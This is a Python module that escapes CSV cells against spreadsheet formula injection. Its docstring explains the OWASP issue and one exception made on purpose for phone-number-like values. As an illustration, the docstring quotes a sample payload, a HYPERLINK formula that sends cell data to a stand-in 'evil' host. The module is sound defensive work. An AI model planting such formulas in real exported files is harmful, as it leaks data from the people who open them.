"""Cells of every CSV leadgate writes, escaped against spreadsheet formula injection.

A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula (OWASP "CSV injection"): a lead
named ``=HYPERLINK("http://evil/?"&A1)`` would leak data from the manager's
machine. Such cells are written with a leading apostrophe, which spreadsheets
show as text and do not display.

One exception, on purpose: a cell made only of a sign followed by digits,
spaces, dots, parentheses and hyphens (``+91 98123 45678``, ``-12.5``) is left
as written. It cannot call a function, and escaping it would change every
phone number in a rejected-rows report, so fixing and re-importing the file
would import the apostrophe too.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-][0-9 .()\-]*[0-9][0-9 .()\-]*$")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs as a formula."""
    if not isinstance(value, str) or not value.startswith(TRIGGERS):
        return value
    if value[0] in "+-" and _PLAIN_NUMBER.match(value):
        return value
    return "'" + value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row of :func:`safe_cell` values, for ``csv.writer.writerow``."""
    return [safe_cell(v) for v in values]
